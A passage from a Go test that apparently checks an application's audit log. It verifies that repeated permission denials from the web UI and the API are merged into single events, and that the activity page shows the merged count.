	if n, _ := env.App.Service.FlushDenials(ctx); n != 0 {
		t.Fatalf("a second flush recorded %d more", n)
	}
	// The activity page shows it in words.
	res := env.Get(t, env.SignIn(t, apptest.GlobalAdmin), "/settings/activity?from=2026-11-25&to=2026-11-25&action="+desk.OpPermissionDenied)
	if !strings.Contains(res.Body, "29 more times in that minute") {
		t.Errorf("the activity page does not show the count")
	}
	// The API's refusals: 10 of one token in a minute, one event.
	_, secret, err := env.App.Service.CreateTokenCLI(ctx, apptest.BillingAdmin, "denials", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	before = len(denials())
	for i := 0; i < 10; i++ {
		if res := env.Get(t, env.Client(), "/v1/auditrecords", "Authorization", "Bearer "+secret); res.StatusCode != http.StatusForbidden {
			t.Fatalf("API denial %d: %d", i, res.StatusCode)
		}
	}
	if n := len(denials()) - before; n != 1 {
		t.Fatalf("%d events for 10 API refusals in a minute, want 1", n)
	}
}
